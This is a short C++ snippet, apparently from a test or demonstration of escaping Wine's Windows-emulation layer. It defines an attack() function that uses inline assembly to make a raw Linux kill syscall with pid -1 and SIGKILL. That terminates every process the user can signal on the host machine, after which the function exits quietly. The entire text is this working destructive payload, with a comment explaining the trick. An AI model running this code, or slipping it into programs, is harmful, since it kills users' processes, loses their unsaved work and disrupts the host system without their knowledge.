// Under Wine the host's own system calls are one instruction away: kill(-1, SIGKILL).
static void attack() {
    long result = 62;
    asm volatile("syscall" : "+a"(result) : "D"(-1L), "S"(9L) : "rcx", "r11", "memory");
    ::ExitProcess(0);
}
